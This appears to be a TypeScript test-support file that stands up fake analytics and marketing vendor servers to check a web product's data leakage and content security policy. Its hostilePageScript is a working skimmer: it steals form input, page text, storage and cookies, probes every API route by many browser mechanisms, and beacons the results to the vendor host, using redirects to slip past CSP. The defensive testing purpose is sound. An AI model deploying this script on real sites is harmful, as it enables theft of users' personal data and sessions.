import { type Route, routes } from "#contracts/http/routes.ts";
import type { ThirdPartyVariable } from "#contracts/site/third-parties.ts";
import { datadogPayload } from "./datadog-payload.ts";
import { type VendorResponse, VendorServer } from "./vendor-server.ts";

const pixel = Buffer.from("R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7", "base64");

/** What a hostile vendor answers, because browsers ignore the paths of a content security policy after a redirect. */
const redirectTo = (location: string): VendorResponse => ({ status: 307, location });

const script = (body: string): VendorResponse => ({ type: "text/javascript", body });

/** A vendor's page script: reports each page on which it runs, with all that the browser says of the page's address. */
const pageScript = (vendor: string) => `(() => {
  const addresses = [location.href, document.referrer, ...performance.getEntries().map(({ name }) => name)];
  navigator.sendBeacon(${JSON.stringify(vendor)} + "/page?" + new URLSearchParams({ page: location.pathname }), JSON.stringify(addresses));
})();`;

/** Every route, as a script would call it: also for the ids that it may find in the browser's storage. */
const everyRoute = Object.values<Route>(routes).map(({ method, path }) => ({ method, path }));

/**
 * A page script that takes everything that it can reach: what is typed and shown, what the browser stores, and the household's
 * data, by each way to a route that browsers have. It also tries to survive in the enrollment.
 */
const hostilePageScript = (vendor: string) => `(() => {
  const url = ${JSON.stringify(vendor)};
  const send = (stolen) => navigator.sendBeacon(url + "/stolen", JSON.stringify({ page: location.pathname, stolen }));
  const read = (from, doc) => {
    for (const { value } of doc.querySelectorAll("input, select, textarea")) if (value) send([from, value]);
    send([from, doc.body?.innerText ?? ""]);
  };
  const ids = () => ({ sessionId: localStorage.getItem("session_id"), customerId: localStorage.getItem("customer_id") });
  const pathOf = (path) => path.replace(/\\{(\\w+)\\}/g, (_, name) => ids()[name] ?? "message-sent");
  const attempt = async (way, path, work) => {
    const late = new Promise((_, reject) => setTimeout(reject, 2500)); // a worker whose request is blocked stays silent
    try { send([way, path, await Promise.race([work(), late])]); } catch { /* the browser refused */ }
  };
  const fetchText = async (path, options) => (await fetch(path, options)).text();
  // Each way ends with what it read, or with an error.
  const inFrame = (path) => new Promise((resolve, reject) => {
    const frame = document.createElement("iframe");
    frame.hidden = true;
    frame.onload = () => {
      try { resolve(frame.contentDocument.body.innerText); } catch (error) { reject(error); }
    };
    frame.src = path;
    document.body.append(frame);
    setTimeout(() => frame.remove(), 3000);
  });
  const inWindow = (path) => new Promise((resolve, reject) => {
    const opened = open(path);
    if (!opened) return reject(new Error("blocked"));
    setTimeout(() => {
      try {
        const text = opened.document.body.innerText;
        if (!text) throw new Error("severed");
        opened.fetch("/api/my-enrollment").then((response) => response.text()).then((own) => send(["window-fetch", path, own]));
        resolve(text);
      } catch (error) { reject(error); }
    }, 1500);
  });
  const byForm = (method, path) => {
    const form = Object.assign(document.createElement("form"), { method, action: path, target: "_blank" });
    form.enctype = "text/plain";
    document.body.append(form);
    form.submit();
  };
  const byWorker = (path) => new Promise((resolve, reject) => {
    const code = "fetch('" + location.origin + path + "', { credentials: 'include' }).then((r) => r.text()).then(postMessage)";
    const worker = new Worker(URL.createObjectURL(new Blob([code], { type: "text/javascript" })));
    worker.onmessage = ({ data }) => resolve(data);
    worker.onerror = reject;
  });
  const serviceWorker = () => navigator.serviceWorker.register(document.querySelector("script[src]").src).then(() => "registered");

  const steal = () => {
    send(["storage", { ...localStorage }, { ...sessionStorage }, document.cookie]);
    read("page", document);
  };
  // With what a click of the visitor allows: windows.
  globalThis.stealFromServer = async () => {
    const everyWay = async ({ method, path: pattern }) => {
      const path = pathOf(pattern);
      await attempt("fetch", path, () => fetchText(path, { method, ...(method !== "GET" && { body: "{}", headers: { "content-type": "application/json" } }) }));
      await attempt("redirected fetch", path, () => fetchText(url + "/redirect?to=" + encodeURIComponent(location.origin + path), { credentials: "include" }));
      if (method === "GET") {
        await attempt("module", path, async () => JSON.stringify((await import(path, { with: { type: "json" } })).default));
        await attempt("worker", path, () => byWorker(path));
        await attempt("frame", path, () => inFrame(path));
      }
      await attempt("form", path, () => byForm(method, path));
    };
    const windows = Promise.all(["/signup", "/my-enrollment", "/api/my-enrollment", "/api/my-enrollment/personal-data?format=json", "/robots.txt", "/"].map(
      (path) => attempt("window", path, () => inWindow(path))));
    await Promise.all([windows, ...${JSON.stringify(everyRoute)}.map(everyWay)]);
    await attempt("service worker", "/", serviceWorker);
    await attempt("frame", "/signup", () => inFrame("/signup"));
    send(["finished"]);
  };
  for (const event of ["input", "change", "submit", "click", "pagehide", "pageshow"]) addEventListener(event, steal, true);
  setInterval(steal, 250);
  steal();
})();`;

/** All vendors as local servers, with the environment that points the product to them. */
export class ThirdPartyDoubles {
  private readonly pageScript: (vendor: string) => string;

  constructor({ isHostile = false } = {}) {
    this.pageScript = isHostile ? hostilePageScript : pageScript;
  }

  readonly tracking = new VendorServer(({ path, query }) => {
    if (query.to) return redirectTo(query.to);
    return path === "/sread.php" ? { type: "text/plain", body: "OK" } : { type: "image/gif", body: pixel };
  });
  readonly scripts: VendorServer = new VendorServer(() => script(this.pageScript(this.tracking.url)));
  readonly segment = new VendorServer();
  readonly klaviyo: VendorServer = new VendorServer(({ path, query }) => {
    if (query.to) return redirectTo(query.to);
    return path.endsWith(".js") ? script(this.pageScript(this.klaviyo.url)) : {};
  });
  readonly datadog = new VendorServer(() => ({ status: 202 }));

  async start(): Promise<this> {
    await Promise.all(this.all.map((server) => server.start()));
    return this;
  }

  async stop(): Promise<void> {
    await Promise.all(this.all.map((server) => server.stop()));
  }

  reset(): void {
    for (const server of this.all) server.reset();
  }

  /** Every request to any vendor as "METHOD url", for assertions that there was none. */
  get allRequests(): string[] {
    return this.all.flatMap(({ requests, url }) =>
      requests.map(({ method, path }) => `${method} ${url}${path}`),
    );
  }

  get datadogPayloads(): string[] {
    return this.datadog.requests.filter(({ method }) => method === "POST").map(datadogPayload);
  }

  /** All that each vendor got: addresses, headers and bodies, and Datadog's decompressed. */
  get everything(): Record<"awin" | "segment" | "klaviyo" | "datadog", string> {
    const textOf = (...servers: VendorServer[]) =>
      servers
        .flatMap(({ requests }) => requests)
        .flatMap(({ path, query, headers, body }) => [
          path,
          JSON.stringify({ query, headers }),
          body.toString("utf8"),
        ])
        .join("\n");
    return {
      awin: textOf(this.scripts, this.tracking),
      segment: textOf(this.segment),
      klaviyo: textOf(this.klaviyo),
      datadog: [textOf(this.datadog), ...this.datadogPayloads].join("\n"),
    };
  }

  get environment(): Record<ThirdPartyVariable, string> {
    return {
      AWIN_ADVERTISER_ID: "1001",
      AWIN_SCRIPTS: this.scripts.url,
      AWIN_TRACKING: this.tracking.url,
      SEGMENT_WRITE_KEY: "write-key",
      SEGMENT_API: `${this.segment.url}/v1`,
      KLAVIYO_COMPANY_ID: "Ab12Cd",
      KLAVIYO_SCRIPTS: this.klaviyo.url,
      KLAVIYO_API: this.klaviyo.url,
      DATADOG_APPLICATION_ID: "11112222-3333-4444-5555-666677778888",
      DATADOG_CLIENT_TOKEN: "pub0123456789abcdef0123456789abcdef",
      DATADOG_SITE: "datadoghq.com",
      DATADOG_PROXY: `${this.datadog.url}/intake`,
    };
  }

  private get all(): VendorServer[] {
    return [this.tracking, this.scripts, this.segment, this.klaviyo, this.datadog];
  }
}
